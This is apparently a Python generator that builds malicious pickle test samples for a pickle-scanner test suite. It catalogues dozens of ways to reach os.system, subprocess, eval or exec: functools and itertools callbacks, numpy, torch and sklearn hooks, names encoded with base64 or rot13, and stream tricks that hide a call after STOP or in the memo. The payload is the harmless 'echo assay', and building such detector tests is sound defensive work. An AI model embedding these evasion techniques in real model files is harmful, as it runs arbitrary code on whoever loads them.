"""Pickles that reach a function by a detour: the callable, its name or its arguments come from somewhere else."""
import base64
import codecs
import zlib

from assembly import (Appends, Build, Call, Computed, Get, Name, New, Obj, Persistent, Put, Raw, Sequence, SetItems,
                      dump, encode, text)

COMMAND = "echo assay"
SYSTEM = Name("os", "system")
POPEN = Name("subprocess", "getoutput")
EVIL = dump(Call(SYSTEM, COMMAND))


def b(name):
    return Name("builtins", name)


def o(name):
    return Name("operator", name)


def i(name):
    return Name("itertools", name)


def instance(module, name, state):
    """An object made without its constructor, with state."""
    return Build(New(Name(module, name)), state)


def callers():
    """Functions that call what they are given."""
    yield "filter", Call(b("list"), Call(b("filter"), SYSTEM, [COMMAND]))
    yield "sorted_key", Call(b("max"), Call(b("sorted"), [COMMAND]), Call(Name("functools", "cmp_to_key"), SYSTEM))
    yield "functools_reduce", Call(Name("functools", "reduce"), SYSTEM, [COMMAND, COMMAND])
    yield "builtins_reduce_py2", Call(Name("__builtin__", "reduce"), Name("os", "execl"), ["echo", "echo"])
    yield "accumulate", Call(b("tuple"), Call(i("accumulate"), [COMMAND, COMMAND], Name("os", "execlp")))
    yield "takewhile", Call(b("set"), Call(i("takewhile"), SYSTEM, [COMMAND]))
    yield "dropwhile", Call(b("list"), Call(i("dropwhile"), SYSTEM, [COMMAND]))
    yield "filterfalse", Call(b("list"), Call(i("filterfalse"), POPEN, [COMMAND]))
    yield "groupby", Call(b("list"), Call(i("groupby"), [COMMAND], SYSTEM))
    yield "iter_sentinel", Call(b("list"), Call(b("iter"), Call(Name("functools", "partial"), SYSTEM, COMMAND), 0))
    yield "any_map", Call(b("any"), Call(b("map"), SYSTEM, [COMMAND]))
    yield "dict_from_map", Call(b("dict"), Call(b("enumerate"), Call(b("map"), SYSTEM, [COMMAND])))
    yield "str_join_map", Call(Name("builtins", "str.join"), "", Call(b("map"), POPEN, [COMMAND]))
    yield "bytes_map", Call(b("bytes"), Call(b("map"), SYSTEM, [COMMAND]))
    yield "operator_call", Call(o("call"), SYSTEM, COMMAND)
    yield "operator_dunder_call", Call(o("__call__"), SYSTEM, COMMAND)
    yield "partial_call", Call(Call(Name("functools", "partial"), SYSTEM, COMMAND))
    yield "partial_dunder_call", Call(Name("functools", "partial.__call__"), Call(Name("functools", "partial"), SYSTEM), COMMAND)
    yield "partial_state", Call(instance("functools", "partial", (SYSTEM, (COMMAND,), {}, None)))
    yield "partialmethod", Call(Name("functools", "partialmethod"), SYSTEM, COMMAND)
    yield "singledispatch", Call(Call(Name("functools", "singledispatch"), SYSTEM), COMMAND)
    yield "lru_cache", Call(Call(Name("functools", "lru_cache"), SYSTEM), COMMAND)
    yield "cache_wrapper", Call(Call(Name("functools", "_lru_cache_wrapper"), SYSTEM, None, False, None), COMMAND)
    yield "cached_property", Call(Name("functools", "cached_property.__get__"), Call(Name("functools", "cached_property"), SYSTEM), COMMAND)
    yield "property_fget", Call(Name("builtins", "property.__get__"), Call(b("property"), SYSTEM), COMMAND)
    yield "staticmethod_get", Call(Call(Name("builtins", "staticmethod.__get__"), Call(b("staticmethod"), SYSTEM), 1), COMMAND)
    yield "defaultdict_missing", Call(o("getitem"), Call(Name("collections", "defaultdict"), Call(Name("functools", "partial"), SYSTEM, COMMAND)), 1)
    yield "re_scanner", Call(Name("re", "Scanner.scan"), Call(Name("re", "Scanner"), [("a", SYSTEM)]), "a")
    yield "re_subn", Call(Name("re", "subn"), "a", SYSTEM, "a")
    yield "weakref_finalize", Call(Name("weakref", "finalize"), Name("collections", "OrderedDict"), SYSTEM, COMMAND)
    yield "weakref_callback", Call(Name("weakref", "ref"), Call(Name("collections", "OrderedDict")), SYSTEM)
    yield "future_callback", Call(Name("concurrent.futures", "Future.add_done_callback"), Call(Name("concurrent.futures", "Future")), SYSTEM)
    yield "executor_submit", Call(Name("concurrent.futures", "ThreadPoolExecutor.submit"), Call(Name("concurrent.futures", "ThreadPoolExecutor")), SYSTEM, COMMAND)
    yield "exitstack", Call(Name("contextlib", "ExitStack.callback"), Call(Name("contextlib", "ExitStack")), SYSTEM, COMMAND)
    yield "contextvars_run", Call(Name("contextvars", "Context.run"), Call(Name("contextvars", "Context")), SYSTEM, COMMAND)
    yield "threading_thread_run", Call(Name("threading", "Thread.run"), Call(Name("threading", "Thread"), None, SYSTEM, None, (COMMAND,)))
    yield "threadpool_map", Call(Name("multiprocessing.pool", "ThreadPool.map"), Call(Name("multiprocessing.pool", "ThreadPool")), SYSTEM, [COMMAND])
    yield "copy_deepcopy_dispatch", SetItems(Name("copy", "_deepcopy_dispatch"), Name("builtins", "str"), SYSTEM)
    yield "json_object_hook", Call(Name("json", "loads"), '"a"', None, SYSTEM)
    yield "json_decoder", Call(Name("json", "JSONDecoder"), SYSTEM)
    yield "csv_reader", Call(b("next"), Call(Name("csv", "reader"), Call(b("map"), SYSTEM, [COMMAND])))
    yield "heapq_merge", Call(b("list"), Call(Name("heapq", "merge"), Call(b("map"), SYSTEM, [COMMAND])))
    yield "statistics_mean", Call(Name("statistics", "fmean"), Call(b("map"), SYSTEM, [COMMAND]))
    yield "deque_extend", Appends(Call(Name("collections", "deque")), Call(b("list"), Call(b("map"), SYSTEM, [COMMAND])))
    yield "counter", Call(Name("collections", "Counter"), Call(b("map"), SYSTEM, [COMMAND]))
    yield "timeit_callable", Call(Name("timeit", "timeit"), Call(Name("functools", "partial"), SYSTEM, COMMAND))
    yield "numpy_vectorize", Call(Call(Name("numpy", "vectorize"), SYSTEM), COMMAND)
    yield "numpy_frompyfunc", Call(Call(Name("numpy", "frompyfunc"), SYSTEM, 1, 1), COMMAND)
    yield "numpy_apply_along_axis", Call(Name("numpy", "apply_along_axis"), SYSTEM, 0, [COMMAND])
    yield "numpy_fromfunction", Call(Name("numpy", "fromfunction"), SYSTEM, (1,))
    yield "numpy_piecewise", Call(Name("numpy", "piecewise"), [1], [True], [SYSTEM])
    yield "numpy_fromiter", Call(Name("numpy", "fromiter"), Call(b("map"), SYSTEM, [COMMAND]), "i4")
    yield "pandas_series_apply", Call(Name("pandas", "Series.apply"), Call(Name("pandas", "Series"), [COMMAND]), SYSTEM)
    yield "scipy_minimize", Call(Name("scipy.optimize", "minimize"), SYSTEM, [1])
    yield "sklearn_function_transformer", Call(Name("sklearn.preprocessing", "FunctionTransformer.transform"), Call(Name("sklearn.preprocessing", "FunctionTransformer"), SYSTEM), COMMAND)
    yield "joblib_delayed", Call(Call(Name("joblib", "Parallel")), [Call(Call(Name("joblib", "delayed"), SYSTEM), COMMAND)])
    yield "joblib_batched", Call(instance("joblib.parallel", "BatchedCalls", {"items": [(SYSTEM, (COMMAND,), {})]}))
    yield "joblib_memory_call", Call(Name("joblib.memory", "MemorizedFunc.call"), New(Name("joblib.memory", "MemorizedFunc")), SYSTEM)
    yield "torch_tree_map", Call(Name("torch.utils._pytree", "tree_map"), SYSTEM, [COMMAND])
    yield "torch_checkpoint", Call(Name("torch.utils.checkpoint", "checkpoint"), SYSTEM, COMMAND)
    yield "torch_module_apply", Call(Name("torch.nn", "Module.apply"), New(Name("torch.nn", "Identity")), SYSTEM)
    yield "torch_lambda_lr", Call(Name("torch.optim.lr_scheduler", "LambdaLR"), New(Name("torch.optim", "SGD")), SYSTEM)
    yield "torchvision_lambda", Call(Call(Name("torchvision.transforms", "Lambda"), SYSTEM), COMMAND)
    yield "tf_py_function", Call(Name("tensorflow", "py_function"), SYSTEM, [COMMAND], 1)
    yield "tf_numpy_function", Call(Name("tensorflow", "numpy_function"), SYSTEM, [COMMAND], 1)
    yield "dask_delayed_compute", Call(Name("dask", "delayed"), SYSTEM)
    yield "builtins_build_class", Call(b("__build_class__"), SYSTEM, "A")
    yield "type_with_methods", Call(Call(b("type"), "A", (), {"__init__": SYSTEM}), COMMAND)
    yield "enum_missing", Call(Name("enum", "Enum"), "A", {"a": SYSTEM})
    yield "logging_handler", Call(Name("logging", "setLogRecordFactory"), SYSTEM)
    yield "sys_excepthook", Build(Name("sys", "flags"), {"excepthook": SYSTEM})
    yield "atexit_register", Call(Name("atexit", "register"), SYSTEM, COMMAND)
    yield "xml_handler", Call(Name("xml.parsers.expat", "ParserCreate"), SYSTEM)
    yield "callable_iterator_in_tuple", (1, {"a": [Call(b("zip"), Call(b("map"), SYSTEM, [COMMAND]))]})
    yield "ast_nodevisitor", Call(Name("ast", "NodeVisitor.visit"), instance("ast", "NodeVisitor", {"visit_str": SYSTEM}), "a")
    yield "mock_side_effect", Call(Call(Name("unittest.mock", "Mock"), None, SYSTEM), COMMAND)
    yield "string_formatter", Call(Name("string", "Formatter.vformat"), Call(Name("string", "Formatter")), "{0.__class__.__base__}", (SYSTEM,), {}), "high"
    yield "format_map", Call(Name("builtins", "str.format_map"), "{a.__globals__}", {"a": SYSTEM}), "high"
    yield "str_format_reaches", Call(Name("builtins", "str.format"), "{0.__init__.__globals__}", Name("collections", "OrderedDict")), "high"


def names():
    """Callables whose name is computed or reached through attributes."""
    getattr_ = b("getattr")
    yield "getattr_three", Call(Call(getattr_, Call(getattr_, Call(getattr_, Name("shutil", "os"), "path"), "os"), "system"), COMMAND)
    yield "getattr_of_module_alias", Call(Call(getattr_, Name("random", "_os"), "system"), COMMAND)
    yield "method_by_name_in_numpy", Call(Name("numpy.core.fromnumeric", "_wrapfunc"), Name("urllib.parse", "sys.modules.get")), "critical"
    yield "wrapped_method_of_numpy", Call(Name("numpy.core.fromnumeric", "_wrapfunc"), Call(Name("urllib.parse", "sys.modules.get"), "builtins"), "exec", "print(1)")
    yield "wrapped_iteration_of_numpy", Call(Name("numpy._core.fromnumeric", "_wrapit"), Name("pathlib", "Path"), "unlink"), "high"
    yield "method_by_name_in_pandas", Call(Name("pandas.core.frame", "DataFrame.agg"), Call(Name("pandas.core.frame", "DataFrame")), "to_csv", 0, "/tmp/x"), "high"
    yield "objects_of_the_collector", Call(Name("pandas.core.generic", "gc.get_objects")), "high"
    yield "module_in_a_module", Call(Name("tempfile", "_shutil.os.system"), COMMAND)
    yield "module_of_threads_in_a_module", Call(Name("zipfile", "threading._os.system"), COMMAND)
    yield "module_of_sockets_in_a_module", Call(Name("email.utils", "socket.os.system"), COMMAND)
    yield "attrgetter_system", Call(Call(Call(o("attrgetter"), "system"), Name("shutil", "os")), COMMAND)
    yield "attrgetter_dotted", Call(Call(Call(o("attrgetter"), "os.system"), Name("shutil", "sys.modules")), COMMAND)
    yield "itemgetter_modules", Call(Call(o("itemgetter"), "os"), Name("sys", "modules")), "high"
    yield "getitem_modules", Call(Call(getattr_, Call(o("getitem"), Name("sys", "modules"), "os"), "system"), COMMAND)
    yield "dict_get_modules", Call(Call(getattr_, Call(Name("builtins", "dict.get"), Name("sys", "modules"), "os"), "system"), COMMAND)
    yield "builtins_dict_getitem", Call(Call(o("getitem"), Name("builtins", "__dict__"), "eval"), "1")
    yield "globals_of_function", Call(Call(getattr_, Call(o("getitem"), Name("shutil", "copy.__globals__"), "os"), "system"), COMMAND)
    yield "vars_module", Call(Call(o("getitem"), Call(b("vars"), Name("shutil", "os")), "system"), COMMAND)
    yield "object_subclasses", Call(Call(Name("builtins", "object.__subclasses__")), 0)
    yield "type_mro", Call(Name("builtins", "type.mro"), b("int")), "high"
    yield "getattribute_object", Call(Call(Name("builtins", "object.__getattribute__"), Name("shutil", "os"), "system"), COMMAND)
    yield "type_getattribute", Call(Call(Name("builtins", "type.__getattribute__"), Name("subprocess", "Popen"), "__init__"), COMMAND)
    yield "class_dunder_dict", Call(Call(o("getitem"), Name("os", "__dict__"), "system"), COMMAND)
    yield "loader_exec", Call(Name("os", "__loader__.exec_module"), Name("os", "path"))
    yield "spec_loader", Call(Name("os", "__spec__.loader.load_module"), "os")
    yield "import_then_methodcaller", Call(Call(o("methodcaller"), "system", COMMAND), Call(b("__import__"), "os"))
    yield "resolve_name_concat", Call(Call(Name("pkgutil", "resolve_name"), Call(o("concat"), "os:", "system")), COMMAND)
    yield "join_names", Call(Computed(Call(Name("builtins", "str.join"), "", ["o", "s"]), Call(Name("builtins", "str.join"), "", ["sys", "tem"])), COMMAND)
    yield "replace_name", Call(Computed(Call(Name("builtins", "str.replace"), "oxs", "x", ""), "system"), COMMAND)
    yield "reversed_name", Call(Computed("os", Call(Name("builtins", "str.join"), "", Call(b("reversed"), "metsys"))), COMMAND)
    yield "slice_name", Call(Computed("os", Call(o("getitem"), "metsys", Call(b("slice"), None, None, -1))), COMMAND)
    yield "bytes_decode_name", Call(Computed(Call(b("str"), b"os", "ascii"), Call(Name("builtins", "bytes.decode"), b"system", "ascii")), COMMAND)
    yield "codecs_rot13_name", Call(Computed(Call(Name("codecs", "decode"), codecs.encode("os", "rot13"), "rot13"), "system"), COMMAND)
    yield "base64_name", Call(Computed(Call(Name("builtins", "bytes.decode"), Call(Name("base64", "b64decode"), base64.b64encode(b"os"))), "system"), COMMAND)
    yield "base85_name", Call(Computed(Call(Name("builtins", "bytes.decode"), Call(Name("base64", "b85decode"), base64.b85encode(b"os"))), "system"), COMMAND)
    yield "format_name", Call(Computed(Call(Name("builtins", "str.format"), "{}{}", "o", "s"), "system"), COMMAND)
    yield "percent_name", Call(Computed(Call(o("mod"), "o%s", "s"), "system"), COMMAND)
    yield "chr_name", Call(Computed(Call(o("add"), Call(b("chr"), 111), Call(b("chr"), 115)), "system"), COMMAND)
    yield "bytes_of_list_name", Call(Computed(Call(Name("builtins", "bytes.decode"), Call(b("bytes"), [111, 115])), "system"), COMMAND)
    yield "template_name", Call(Computed(Call(Name("string", "Template.substitute"), Call(Name("string", "Template"), "$a"), {"a": "os"}), "system"), COMMAND)
    yield "textwrap_name", Call(Computed(Call(Name("textwrap", "dedent"), " os"), "system"), COMMAND)
    yield "zlib_name", Call(Computed(Call(Name("builtins", "bytes.decode"), Call(Name("zlib", "decompress"), zlib.compress(b"os"))), "system"), COMMAND)
    yield "html_unescape_name", Call(Computed(Call(Name("html", "unescape"), "&#111;s"), "system"), COMMAND)
    yield "urllib_unquote_name", Call(Computed(Call(Name("urllib.parse", "unquote"), "%6fs"), "system"), COMMAND)
    yield "json_name", Call(Computed(Call(Name("json", "loads"), '"os"'), "system"), COMMAND)
    yield "literal_eval_name", Call(Computed(Call(Name("ast", "literal_eval"), "'os'"), "system"), COMMAND)
    yield "dotted_through_class", Call(Name("collections", "abc.sys.modules"), COMMAND)
    yield "dotted_json", Call(Name("json", "decoder.scanner.re.enum.sys.exit"), 1), "high"
    yield "dotted_torch", Call(Name("torch", "serialization.os.system"), COMMAND)
    yield "dotted_pandas", Call(Name("pandas", "io.common.os.system"), COMMAND)
    yield "dotted_sklearn", Call(Name("sklearn", "utils._estimator_html_repr.os.system"), COMMAND)
    yield "dotted_transformers", Call(Name("transformers", "utils.hub.subprocess.run"), COMMAND)
    yield "dotted_joblib", Call(Name("joblib.numpy_pickle", "pickle.loads"), EVIL)
    yield "dotted_numpy", Call(Name("numpy", "lib._npyio_impl.os.system"), COMMAND)
    yield "dotted_collections", Call(Name("collections", "_sys.modules.get"), "os")
    yield "dotted_logging", Call(Name("logging", "os.popen"), COMMAND)
    yield "dotted_typing", Call(Name("typing", "sys.modules.__getitem__"), "os")
    yield "dotted_enum_builtins", Call(Name("enum", "bltns.eval"), "1")
    yield "dotted_functools_reduce_globals", Call(Name("functools", "wraps.__globals__.__getitem__"), "os")
    yield "dotted_method_wrapper", Call(Name("os", "system.__call__"), COMMAND)
    yield "bound_self", Call(Name("os", "system.__self__.popen"), COMMAND)


def streams():
    """Streams that are read in another way than they look."""
    call = encode(Call(SYSTEM, COMMAND), 2)
    yield "after_stop", dump({"a": 1}) + dump(Call(SYSTEM, COMMAND))
    yield "after_stop_padding", dump([1]) + b"\0" * 64 + EVIL
    yield "after_stop_garbage", dump([1]) + b"padding\xff\xfe" * 3 + EVIL
    yield "unknown_opcode_after", b"\x80\x02" + call + b"\xff\xff."
    yield "unknown_opcode_before_stop", b"\x80\x04" + encode(Call(SYSTEM, COMMAND), 4) + b"\xf0"
    yield "missing_memo_after", b"\x80\x02" + call + b"h\x63."
    yield "stack_underflow_after", b"\x80\x02" + call + b"00000."
    yield "setitems_odd_after", b"\x80\x02" + call + b"(u."
    yield "bad_text_after", b"\x80\x02" + call + b"X\x02\0\0\0\xff\xff."
    yield "huge_text_after", b"\x80\x02" + call + b"X\xff\xff\xff\x7fabc"
    yield "no_proto", encode(Call(SYSTEM, COMMAND), 0) + b"."
    yield "proto_5_with_global", b"\x80\x05" + encode(Call(SYSTEM, COMMAND), 0) + b"."
    yield "wrong_proto_9", b"\x80\x09" + call + b"."
    yield "frame_too_long", b"\x80\x04\x95" + (1 << 20).to_bytes(8, "little") + call + b"."
    yield "frame_zero", b"\x80\x04\x95" + bytes(8) + call + b"."
    yield "global_crlf", b"cos\r\nsystem\r\n(S'echo assay'\ntR."
    yield "global_spaces", b"cos \nsystem\n(S'echo assay'\ntR."
    yield "utf8_surrogate_name", Raw(text("os") + text("system") + b"\x93" + text(COMMAND) + b"\x85R")
    yield "memo_alias", Sequence(Put(1, "posix"), Put(2, "system"), Call(Computed(Get(1), Get(2)), COMMAND))
    yield "memo_replaced", Sequence(Put(1, Name("collections", "OrderedDict")), Put(1, SYSTEM), Call(Get(1), COMMAND))
    yield "memoize_alias", Raw(text("posix") + b"\x94" + text("system") + b"\x94" + b"00" + b"h\0h\1\x93" + text(COMMAND) + b"\x85R")
    yield "long_binput", Raw(text("os") + b"r\x07\0\0\0" + text("system") + b"r\x08\0\0\0" + b"00j\x07\0\0\0j\x08\0\0\0\x93" + text(COMMAND) + b"\x85R")
    yield "dup_callable", Raw(encode(SYSTEM, 2) + b"2" + text(COMMAND) + b"\x85R0")
    yield "pop_mark_hides", Raw(b"(" + call + b"1]")
    yield "inst_hidden_in_tuple", b"((S'echo assay'\nios\nsystem\nN1N."
    yield "obj_in_dict_popped", Raw(b"(" + encode(Obj(SYSTEM, COMMAND), 2) + b"1}")
    yield "newobj_ex_popen", Raw(encode(Name("subprocess", "Popen"), 4) + b")" + b"}" + text("args") + text(COMMAND) + b"s\x92")
    yield "persistent_then_call", Sequence(Persistent(("storage", "a")), Call(SYSTEM, COMMAND))
    yield "persistent_result_called", Call(Persistent("a"), COMMAND)
    yield "extension_registered", Sequence(Call(Name("copyreg", "add_extension"), "os", "system", 200), Raw(b"\x82\xc8" + text(COMMAND) + b"\x85R"))
    yield "extension_cache", SetItems(Name("copyreg", "_extension_cache"), 7, SYSTEM)
    yield "inverted_registry", SetItems(Name("copyreg", "_inverted_registry"), 7, ("os", "system"))
    yield "dispatch_table", SetItems(Name("copyreg", "dispatch_table"), b("int"), SYSTEM)
    yield "append_to_named", Appends(Name("sys", "path"), "/tmp/assay")
    yield "append_object_append", Appends(Build(New(Name("collections", "UserList")), {"append": SYSTEM}), COMMAND)
    yield "setitem_object", SetItems(Build(New(Name("collections", "UserDict")), {"__setitem__": SYSTEM}), "a", COMMAND)
    yield "build_globals_name", Build(Name("builtins", "len"), (None, {"__code__": b"x"}))
    yield "build_module_dict", Build(Name("os", "path"), {"join": SYSTEM})
    yield "build_class_reduce", Build(Name("collections", "OrderedDict"), (None, {"__reduce__": SYSTEM}))
    yield "build_setstate_getattr", Build(Build(New(Name("argparse", "Namespace")), {"__setstate__": SYSTEM}), COMMAND)
    yield "build_call_slot", Call(Build(New(Name("types", "SimpleNamespace")), {"__call__": SYSTEM}), COMMAND)
    yield "build_hooks_torch", Build(New(Name("torch.nn.modules.linear", "Linear")), {"_forward_pre_hooks": {0: SYSTEM}, "training": False})
    yield "build_loss_callable", Build(New(Name("torch.nn.modules.container", "Sequential")), {"forward": SYSTEM}), "high"
    yield "build_partial_in_state", Build(New(Name("sklearn.preprocessing._function_transformer", "FunctionTransformer")), {"func": Call(Name("functools", "partial"), SYSTEM)})
    yield "build_scorer", Build(New(Name("sklearn.metrics._scorer", "_Scorer")), {"_score_func": SYSTEM, "_sign": 1, "_kwargs": {}}), "high"
    yield "ordered_dict_subclass_missing", Call(o("getitem"), Build(New(Name("collections", "defaultdict")), {"default_factory": SYSTEM}), 1), "high"
    yield "deep_in_state", Build(New(Name("argparse", "Namespace")), {"a": [{"b": (1, {"c": [[[[SYSTEM]]]]})}]}), "high"
    yield "pickle_in_bytes_loaded", Call(Name("pickle", "loads"), EVIL)
    yield "pickle_twice", Call(Name("pickle", "loads"), dump(Call(Name("pickle", "loads"), EVIL)))
    yield "pickle_zlib_loaded", Call(Name("pickle", "loads"), Call(Name("zlib", "decompress"), zlib.compress(EVIL)))
    yield "pickle_base64_loaded", Call(Name("pickle", "loads"), Call(Name("base64", "b64decode"), base64.b64encode(EVIL)))
    yield "torch_load_bytesio", Call(Name("torch", "load"), Call(Name("io", "BytesIO"), EVIL))
    yield "numpy_load_bytesio", Call(Name("numpy", "load"), Call(Name("io", "BytesIO"), b"x"), None, True)
    yield "unpickler_method", Call(Name("pickle", "Unpickler.load"), Call(Name("pickle", "Unpickler"), Call(Name("io", "BytesIO"), EVIL)))
    yield "exec_compiled", Call(b("exec"), Call(b("compile"), "1", "a", "exec"))
    yield "eval_in_list", [1, 2, Call(b("eval"), "1")]
    yield "key_of_dict", Raw(b"}" + call + b"K\1s")
    yield "in_frozenset", Raw(b"(" + call + b"\x91")
    yield "argument_of_pure", Call(Name("collections", "OrderedDict"), [("a", Call(SYSTEM, COMMAND))])
    yield "argument_of_tensor", Call(Name("torch._utils", "_rebuild_tensor_v2"), Call(SYSTEM, COMMAND), 0, (1,), (1,), False, None)
    yield "dtype_argument", Call(Name("numpy", "dtype"), Call(Name("os", "popen"), COMMAND))
    yield "buffer_argument", Raw(encode(b("bytes"), 4) + encode(Call(SYSTEM, COMMAND), 4) + b"\x85R")
    yield "billions_then_call", b"\x80\x02" + b"(" * 1200 + call + b"."
    yield "many_then_call", b"\x80\x02" + b"N0" * 300000 + call + b"."
    yield "string_escapes", b"c__builtin__\neval\n(S'\\x31'\ntR."
    yield "unicode_escapes", b"\x80\x02V\\u006fs\nVsyst\\u0065m\n\x93X\x0a\0\0\0echo assay\x85R."
    yield "long_names_nfkc", dump(Call(Name("os", "ｓystem"), COMMAND)), "medium"
    yield "main_function", Call(Name("__main__", "load_model"), COMMAND), "medium"
    yield "unknown_package", Call(Name("assay_unheard_of.tools", "run_command"), COMMAND), "medium"
    yield "unknown_package_plain", Call(Name("assay_unheard_of", "thing"), 1), "medium"


def build(samples):
    groups = [("caller", callers()), ("name", names()), ("stream", streams())]
    for group, entries in groups:
        for entry in entries:
            name, value, *rest = entry
            severity = rest[0] if rest else "critical"
            data = value if isinstance(value, bytes) else dump(value)
            samples.attack(f"{group}/{name}.pkl", data, f"{group}: {name}", severity, "pickle")
